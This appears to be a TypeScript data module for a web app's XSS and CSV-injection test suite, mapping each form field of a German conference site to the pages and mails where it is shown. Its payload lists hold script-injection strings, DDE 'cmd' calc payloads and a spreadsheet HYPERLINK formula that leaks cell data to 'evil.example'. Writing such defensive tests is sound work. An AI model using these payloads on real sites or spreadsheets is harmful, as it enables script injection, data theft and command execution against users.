// The XSS suite's data (C1): which text field gets which hostile value, and where it is shown.
// Shared by the seeding script (organisers' content through domain functions) and the browser test
// (participants' content through the real forms, every place checked through the real server).

/** The payloads of the brief, plus one that leaves a marker instead of a dialog. */
export const PAYLOADS = [
  `<img src=x onerror=alert(1)>`,
  `"><svg onload=alert(1)>`,
  `</script><script>alert(1)</script>`,
  `'><img src=x onerror=window.__xss=1>`,
  `javascript:alert(1)`,
] as const;

/** The field's tag (to find it again) followed by as many payloads as its maximum length allows. */
export function hostile(id: string, max = 500): string {
  let value = `x-${id}`;
  for (const p of PAYLOADS) if (value.length + 1 + p.length <= max) value += ` ${p}`;
  return value;
}

/** Values that a spreadsheet would run as a formula (C5). */
export const FORMULAS = {
  firstName: `=HYPERLINK("https://evil.example/?leak="&A1,"Anna")`,
  lastName: `+Brandt+cmd|' /C calc'!A0`,
  organisation: `@SUM(1+1)*cmd|' /C calc'!A0`,
  jobTitle: `-2+3+cmd|' /C calc'!A0`,
  question: `=HYPERLINK("https://evil.example","Frage")`,
  goal: `=HYPERLINK("https://evil.example","Ziel")`,
} as const;

/**
 * Every place a field is shown. `{…}` are filled in by the test (seed output, registration, …);
 * `as` is who looks: the public (no cookies), an organiser, or the participant's manage link.
 */
export const PLACES = {
  home: { path: "/", as: "public" },
  conferences: { path: "/konferenzen", as: "public" },
  conference: { path: "/konferenzen/{year}", as: "public" },
  registration: { path: "/konferenzen/{year}/anmeldung", as: "public" },
  documentation: { path: "/konferenzen/{year}/dokumentation", as: "public" },
  liveCode: { path: "/live/{code}", as: "public" },
  liveInput: { path: "/live/{code}/{input}", as: "public" },
  room: { path: "/live/{code}/{input}/saal", as: "public" },
  groups: { path: "/arbeitskreise", as: "public" },
  group: { path: "/arbeitskreise/ebel", as: "public" },
  presentation: { path: "/praesentation/{report}?folie=2", as: "public" },
  goals: { path: "/ziele", as: "public" },
  goal: { path: "/ziele/{goal}", as: "public" },
  participate: { path: "/ziele/mitmachen/{code}", as: "public" },
  library: { path: "/dokumente", as: "public" },
  entry: { path: "/dokumente/{entry}", as: "public" },
  search: { path: "/suche?q=x-lib-title", as: "public" },
  statement: { path: "/barrierefreiheit", as: "public" },
  manage: { path: "/meine-anmeldung/{token}", as: "public" },
  manageCancel: { path: "/meine-anmeldung/{token}/abmelden", as: "public" },
  manageDelete: { path: "/meine-anmeldung/{token}/loeschen", as: "public" },
  conferencesAdmin: { path: "/verwaltung/konferenzen", as: "organiser" },
  conferenceAdmin: { path: "/verwaltung/konferenzen/{year}", as: "organiser" },
  participants: { path: "/verwaltung/konferenzen/{year}/teilnehmende", as: "organiser" },
  checkin: { path: "/verwaltung/konferenzen/{year}/einlass?q=x-reg-last", as: "organiser" },
  deleteConfirm: { path: "/verwaltung/konferenzen/{year}/teilnehmende/{registration}/loeschen", as: "organiser" },
  inputsAdmin: { path: "/verwaltung/fachinputs", as: "organiser" },
  inputAdmin: { path: "/verwaltung/fachinputs/{input}", as: "organiser" },
  proposalsAdmin: { path: "/verwaltung/ziele/vorschlaege", as: "organiser" },
  results: { path: "/ziele/ergebnis/{year}", as: "organiser" },
  goalsAdmin: { path: "/verwaltung/ziele", as: "organiser" },
  goalAdmin: { path: "/verwaltung/ziele/{goal}", as: "organiser" },
  groupAdmin: { path: "/verwaltung/arbeitskreise/{group}", as: "organiser" },
  reportsAdmin: { path: "/verwaltung/berichte?jahr={year}", as: "organiser" },
  reportAdmin: { path: "/verwaltung/berichte/{report}", as: "organiser" },
  libraryAdmin: { path: "/verwaltung/dokumente", as: "organiser" },
  entryAdmin: { path: "/verwaltung/dokumente/{entryId}", as: "organiser" },
  documentationAdmin: { path: "/verwaltung/dokumentation/{year}", as: "organiser" },
  statementAdmin: { path: "/verwaltung/barrierefreiheit", as: "organiser" },
  audit: { path: "/verwaltung/protokoll", as: "organiser" },
} as const satisfies Record<string, { path: string; as: "public" | "organiser" }>;
export type Place = keyof typeof PLACES;

/** Mails the file transport wrote: to whom, and what the test finds in each. */
export const MAILS = {
  held: { to: "registrant", subject: /Bitte bestätigen/ },
  confirmed: { to: "registrant", subject: /Anmeldung bestätigt/ },
  message: { to: "registrant", subject: /x-msg-subject/ },
  feedback: { to: "organiser", subject: /Barrierefreiheit/ },
  changes: { to: "coordinator", subject: /Änderungen/ },
} as const;
export type Mail = keyof typeof MAILS;

export type Field = {
  id: string;
  /** Who enters it, and where. */
  what: string;
  /** The field's maximum length (the value is cut to fit). */
  max?: number;
  /** seed: written by tests/security/xss-seed.ts through domain functions; form: the test uses the real form. */
  via: "seed" | "form";
  shows: Place[];
  mails?: Mail[];
};

export const FIELDS: Field[] = [
  // Conference, forums, agenda (organisers)
  {
    id: "conf-title",
    what: "conference title",
    max: 200,
    via: "seed",
    shows: [
      "home",
      "conferences",
      "conference",
      "registration",
      "manage",
      "manageCancel",
      "manageDelete",
      "conferencesAdmin",
      "conferenceAdmin",
      "participants",
    ],
    mails: ["held", "confirmed"],
  },
  { id: "conf-desc", what: "conference description", via: "seed", shows: ["conference", "conferenceAdmin"] },
  {
    id: "conf-venue",
    what: "venue name",
    max: 200,
    via: "seed",
    shows: ["conference", "conferenceAdmin"],
    mails: ["confirmed"],
  },
  {
    id: "conf-address",
    what: "venue address",
    max: 300,
    via: "seed",
    shows: ["conference", "conferenceAdmin"],
    mails: ["confirmed"],
  },
  { id: "conf-access", what: "venue accessibility", via: "seed", shows: ["conference", "conferenceAdmin"] },
  {
    id: "forum-title",
    what: "forum title",
    max: 200,
    via: "seed",
    shows: ["conference", "registration", "manage", "conferenceAdmin", "participants"],
  },
  { id: "agenda-title", what: "agenda item", max: 300, via: "seed", shows: ["conference", "conferenceAdmin"] },
  { id: "agenda-speakers", what: "agenda speakers", via: "seed", shows: ["conference", "conferenceAdmin"] },
  // Fachinput and the room's questions
  {
    id: "input-title",
    what: "Fachinput title",
    max: 200,
    via: "seed",
    shows: ["conference", "liveCode", "liveInput", "room", "inputsAdmin", "inputAdmin"],
  },
  {
    id: "input-speaker",
    what: "Fachinput speaker",
    max: 200,
    via: "seed",
    shows: ["conference", "liveInput", "inputAdmin"],
  },
  { id: "input-abstract", what: "Fachinput abstract", via: "seed", shows: ["conference", "inputAdmin"] },
  { id: "record-outcome", what: "discussion record", via: "seed", shows: ["documentation", "inputAdmin"] },
  {
    id: "q-text",
    what: "question from the room",
    via: "form",
    shows: ["liveInput", "room", "inputAdmin", "documentation"],
  },
  { id: "q-name", what: "name of the asker", max: 60, via: "form", shows: ["liveInput", "inputAdmin"] },
  // Working groups and their reports (organisers, coordinators)
  {
    id: "group-name",
    what: "group name",
    max: 200,
    via: "seed",
    shows: ["groups", "group", "goals", "goal", "groupAdmin", "reportsAdmin", "reportAdmin"],
    mails: ["changes"],
  },
  { id: "group-desc", what: "group description", via: "seed", shows: ["groups", "group", "groupAdmin"] },
  { id: "group-contact", what: "group contact", max: 200, via: "seed", shows: ["group", "groupAdmin"] },
  {
    id: "report-activities",
    what: "report: activities",
    via: "seed",
    shows: ["group", "presentation", "reportAdmin", "documentation"],
  },
  { id: "report-obstacles", what: "report: obstacles", via: "seed", shows: ["group", "reportAdmin"] },
  {
    id: "report-comment",
    what: "organiser's comment on a report",
    via: "seed",
    shows: ["reportAdmin"],
    mails: ["changes"],
  },
  { id: "file-report", what: "report file name", max: 100, via: "seed", shows: ["group", "reportAdmin"] },
  { id: "user-name", what: "organiser's name", max: 200, via: "seed", shows: ["reportAdmin", "audit"] },
  // Goals
  {
    id: "goal-title",
    what: "goal title",
    max: 200,
    via: "seed",
    shows: ["goals", "goal", "group", "goalsAdmin", "goalAdmin"],
  },
  { id: "goal-measure", what: "goal measure", via: "seed", shows: ["goal", "goalAdmin"] },
  { id: "goal-sachstand", what: "goal Sachstand", via: "seed", shows: ["goal", "goalAdmin"] },
  {
    id: "prop-title",
    what: "goal proposal title",
    max: 200,
    via: "form",
    shows: ["participate", "proposalsAdmin", "results"],
  },
  { id: "prop-desc", what: "goal proposal description", via: "form", shows: ["participate", "proposalsAdmin"] },
  { id: "prop-cluster", what: "proposal theme", max: 80, via: "seed", shows: ["proposalsAdmin"] },
  // Library, documentation, accessibility statement
  {
    id: "lib-title",
    what: "library entry title",
    max: 300,
    via: "seed",
    shows: ["library", "entry", "search", "libraryAdmin", "entryAdmin"],
  },
  { id: "lib-desc", what: "library entry description", via: "seed", shows: ["entry", "entryAdmin"] },
  { id: "file-library", what: "library file name", max: 100, via: "form", shows: ["libraryAdmin", "entryAdmin"] },
  { id: "doc-intro", what: "documentation intro", via: "seed", shows: ["documentation", "documentationAdmin"] },
  { id: "speech-title", what: "speech title", max: 200, via: "seed", shows: ["documentation", "documentationAdmin"] },
  {
    id: "speech-speaker",
    what: "speech speaker",
    max: 200,
    via: "seed",
    shows: ["documentation", "documentationAdmin"],
  },
  {
    id: "file-material",
    what: "material file name",
    max: 100,
    via: "seed",
    shows: ["documentation", "documentationAdmin"],
  },
  { id: "photo-alt", what: "photo alt text", via: "seed", shows: ["documentation", "documentationAdmin"] },
  { id: "photo-caption", what: "photo caption", via: "seed", shows: ["documentation", "documentationAdmin"] },
  { id: "a11y-barriers", what: "known barriers", via: "seed", shows: ["statement", "statementAdmin"] },
  // Registration (participants)
  {
    id: "reg-first",
    what: "first name",
    max: 100,
    via: "form",
    shows: ["participants", "checkin", "deleteConfirm"],
    mails: ["held", "confirmed", "message"],
  },
  {
    id: "reg-last",
    what: "last name",
    max: 100,
    via: "form",
    shows: ["participants", "checkin", "deleteConfirm"],
    mails: ["held", "confirmed", "message"],
  },
  { id: "reg-org", what: "organisation", max: 200, via: "form", shows: ["participants", "checkin", "deleteConfirm"] },
  { id: "reg-job", what: "function", max: 200, via: "form", shows: [] },
  { id: "reg-other", what: "other support needed", via: "form", shows: ["manage"] },
  { id: "reg-diet", what: "food and drink", via: "form", shows: ["manage", "participants"] },
  // Mails written from forms
  { id: "feedback-message", what: "accessibility feedback", via: "form", shows: [], mails: ["feedback"] },
  { id: "feedback-name", what: "name in the feedback", max: 120, via: "form", shows: [], mails: ["feedback"] },
  // The subject is checked as the mail's Subject header (the preview text in the HTML is cut at 150 characters).
  { id: "msg-subject", what: "organisers' message: subject", max: 200, via: "form", shows: [] },
  { id: "msg-body", what: "organisers' message: text", via: "form", shows: [], mails: ["message"] },
];

const byId = new Map(FIELDS.map((f) => [f.id, f]));

/** The hostile value of a field of the table. */
export function valueOf(id: string): string {
  const field = byId.get(id);
  if (!field) throw new Error(`no field ${id} in the XSS table`);
  return hostile(id, field.max);
}

/** A file name carrying the field's value (no slash: a name with a path is refused before it is stored). */
export function fileNameOf(id: string): string {
  return `${valueOf(id).replaceAll("/", "")}.pdf`;
}

/** How a field's value is shown: file names without slashes and extension; a browser sends `"` in a file name as %22 (HTML multipart rules). */
export function shownAs(field: Field): string {
  if (!field.id.startsWith("file-")) return valueOf(field.id);
  const name = fileNameOf(field.id).replace(/\.pdf$/, "");
  return field.via === "form" ? name.replaceAll('"', "%22") : name;
}
